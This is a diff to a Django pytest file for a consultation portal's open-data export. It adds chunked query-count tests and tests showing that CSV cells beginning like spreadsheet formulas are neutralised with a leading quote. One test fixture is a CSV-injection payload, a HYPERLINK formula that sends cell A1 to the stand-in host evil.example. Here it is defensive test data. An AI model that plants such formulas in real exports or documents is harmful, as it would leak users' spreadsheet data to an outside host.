@@ -12,15 +12,17 @@ import jsonschema
 import pytest
 from django.db import connection
 
-from dialogue import services
+from dialogue import open_data, services
 from dialogue.models import Comment, Stakeholder
 from dialogue.open_data import SCHEMA_PATH
+from dialogue.spreadsheet import exact_text, safe_cell
+from dialogue.text import fingerprint
 from priorities.models import Directive, Priority, ProgressNote, Statement
 from spp_portal import search as portal_search
 
-from .factories import make_comment, make_moderator, make_statement, make_user
+from .factories import make_comment, make_statement, make_user
 
-pytestmark = pytest.mark.django_db
+pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("generous_rate_limit")]
 
 on_postgresql = pytest.mark.skipif(
     connection.vendor != "postgresql",
@@ -30,16 +32,6 @@ on_sqlite = pytest.mark.skipif(connection.vendor != "sqlite", reason="the iconta
 
 FRENCH = "La sécurité à la frontière entre nos deux pays retarde les camions de nos membres."
 SPANISH = "Las fronteras seguras requieren inspecciones compartidas entre los tres países."
-
-
-@pytest.fixture(autouse=True)
-def _generous_rate_limit(settings):
-    settings.COMMENT_RATE_LIMIT = (1000, 600)
-
-
-@pytest.fixture
-def moderator():
-    return make_moderator(display_name="Moe")
 
 
 @pytest.fixture
@@ -371,12 +363,66 @@ class TestOpenData:
         text = streamed(client.get(f"/en/open-data/statements/{statement.slug}/comments.json"))
         assert "d@x.org" not in text and "@example.org" not in text and "Soon Gone" not in text
 
-    def test_export_streams_in_a_fixed_number_of_queries(self, client, statement, moderator, django_assert_num_queries):
-        for _ in range(12):
-            make_comment(statement, approve_by=moderator)
-        # the statement, then per chunk: the comments and their official responses
-        with django_assert_num_queries(3):
-            streamed(client.get(f"/en/open-data/statements/{statement.slug}/comments.json"))
+    @pytest.mark.parametrize("extension", ["json", "csv"])
+    def test_export_costs_one_query_per_chunk_not_per_comment(
+        self, client, statement, moderator, monkeypatch, django_assert_num_queries, extension
+    ):
+        """Streamed in chunks (five here, 2,000 in production): 12 comments cross two chunk boundaries."""
+        monkeypatch.setattr(open_data, "CHUNK", 5)
+        comments = [make_comment(statement, approve_by=moderator) for _ in range(12)]
+        answered = comments[4:7] + comments[11:]  # on both sides of the first boundary, and in the last chunk
+        for comment in answered:
+            services.response_post(
+                comment=comment, moderator=moderator, government="MX", body=f"Answer to {comment.pk}", language="es"
+            )
+        # The statement, the comments (one query, read chunk by chunk), their responses once per chunk.
+        with django_assert_num_queries(1 + 1 + 3):
+            text = streamed(client.get(f"/en/open-data/statements/{statement.slug}/comments.{extension}"))
+        if extension == "json":
+            records = json.loads(text)["comments"]
+        else:
+            records = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
+        assert [record["tracking_number"] for record in records] == [c.tracking_number for c in comments]
+        for record, comment in zip(records, comments, strict=True):
+            expected = f"Answer to {comment.pk}" if comment in answered else None
+            found = record["responses"][0]["body"] if extension == "json" and record["responses"] else None
+            if extension == "csv":
+                found = record["response"] or None
+            assert found == expected, comment.tracking_number
+
+    def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised_and_the_json_keeps_the_text(
+        self, client, statement, moderator
+    ):
+        """Cells beginning with = + - @ tab or CR (OWASP CSV injection) get a leading quote; JSON is exact."""
+        bodies = [
+            '=HYPERLINK("https://evil.example/?"&A1,"Click for the summary")',
+            "+1 555 0100 is the number to call about border crossings.",
+            "-2+3 more inspectors at the Laredo crossing, please.",
+            "@SUM(A1:A9) of the wait times is longer every year.",
+            "'=A quote already leads this comment about the borders.",
+            "An ordinary comment = no formula, mid-text signs + - @ stay as they are.",
+        ]
+        author = make_user(display_name="\t=1+1 tab-led name", organisation="\r@cr-led organisation")
+        comments = [make_comment(statement, author=author, body=body, approve_by=moderator) for body in bodies]
+        services.response_post(
+            comment=comments[0], moderator=moderator, government="US", body="-1 for phishing.", language="en"
+        )
+        text = streamed(client.get(f"/en/open-data/statements/{statement.slug}/comments.csv"))
+        rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
+        cells = [row["body"] for row in rows]
+        assert cells[:5] == ["'" + body for body in bodies[:5]]
+        assert cells[5] == bodies[5], "text that does not begin like a formula is left exactly as it is"
+        assert rows[0]["response"] == "'-1 for phishing."
+        assert {row["author"] for row in rows} == {"'\t=1+1 tab-led name"}
+        assert {row["organisation"] for row in rows} == {"'\r@cr-led organisation"}
+        # What the README tells readers: a cell beginning with a quote had one added; remove it.
+        for row, comment in zip(rows, comments, strict=True):
+            assert exact_text(row["body"]) == comment.body
+            assert fingerprint(exact_text(row["body"])) == row["fingerprint"] == comment.fingerprint
+        records = json.loads(streamed(client.get(f"/en/open-data/statements/{statement.slug}/comments.json")))
+        assert [record["body"] for record in records["comments"]] == bodies
+        assert records["comments"][0]["author"] == "\t=1+1 tab-led name"
+        assert records["comments"][0]["responses"][0]["body"] == "-1 for phishing."
 
     def test_unpublished_statement_has_no_export(self, client):
         draft = make_statement(status="draft")
@@ -473,3 +519,11 @@ class TestDirectiveProgress:
 
         codenames = set(Group.objects.get(name="Publishers").permissions.values_list("codename", flat=True))
         assert {"add_progressnote", "change_progressnote", "view_progressnote", "delete_progressnote"} <= codenames
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "'"])
+def test_every_formula_start_is_neutralised_and_recoverable(start):
+    """The OWASP list (= + - @ tab CR), and the quote itself so that removing one leading quote is always exact."""
+    text = f"{start}1+1 and more"
+    assert safe_cell(text) == "'" + text
+    assert exact_text(safe_cell(text)) == text
